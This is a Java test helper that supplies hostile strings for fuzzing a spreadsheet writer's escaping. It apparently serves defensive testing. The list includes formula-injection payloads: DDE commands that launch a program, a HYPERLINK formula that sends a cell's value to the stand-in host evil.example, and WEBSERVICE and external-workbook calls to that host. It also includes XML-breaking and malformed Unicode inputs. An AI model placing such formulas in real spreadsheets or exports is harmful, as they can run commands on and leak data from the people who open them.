package dev.caresql.excel.workbook;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;

/** Texts that data may hold and that do harm where they are taken for something else. */
final class HostileTexts {
    private static final List<String> BAD = List.of(
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1-1",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "'=1+1",
            "=WEBSERVICE(\"http://evil.example\")",
            "='[http://evil.example/x.xlsx]Sheet1'!A1",
            "[Book1.xlsx]Sheet1!A1",
            "A1",
            "R1C1",
            "XFD1048576",
            "TRUE",
            "#REF!",
            "#N/A",
            "_xlfn.LAMBDA(_xlpm.x,_xlpm.x)",
            "_x0041_",
            "_x005F_x0041_",
            "</t></si><si><t>",
            "<![CDATA[x]]>",
            "&amp;&lt;&#0;&#x1F;",
            "\"\"\"",
            "'",
            "''",
            "a'b",
            "Sheet1!A1",
            "'Plan''s'!A1",
            "a]b[c#d'e",
            "[#Totals]",
            "[@x]",
            "History",
            "",
            " ",
            "  leading and trailing  ",
            "line\nbreak",
            "carriage\r\nreturn",
            "null\u0000inside",
            "bell\u0007escape\u001b",
            "\uFFFE\uFFFF",
            "\uD800 alone",
            "alone \uDC00",
            "\uD83D\uDE00 smile",
            "Tiếng Việt: Thước đo",
            "e\u0301 combining",
            "\u202Eright to left",
            "\u200Bzero width",
            "{=1+1}",
            "12345678901234567890",
            "1e308",
            "2025-01-01",
            "0x41",
            "%0A=1+1",
            "a:b/c\\d?e*f",
            "Print_Area",
            "_xlnm.Print_Area",
            "😀".repeat(20),
            "x".repeat(300));

    private HostileTexts() {}

    /** As many different texts as asked for: the known ones, then joined and changed ones. */
    static List<String> of(int count, long seed) {
        Random random = new Random(seed);
        Set<String> texts = new LinkedHashSet<>(BAD);
        while (texts.size() < count) {
            StringBuilder text = new StringBuilder(pick(random));
            for (int parts = random.nextInt(3); parts > 0; parts--) {
                text.append(random.nextBoolean() ? "" : (char) random.nextInt(0x10000))
                        .append(pick(random));
            }
            if (random.nextInt(4) == 0 && !text.isEmpty()) {
                text.setCharAt(random.nextInt(text.length()), (char) random.nextInt(0x10000));
            }
            texts.add(text.toString());
        }
        return new ArrayList<>(texts);
    }

    private static String pick(Random random) {
        return BAD.get(random.nextInt(BAD.size()));
    }
}
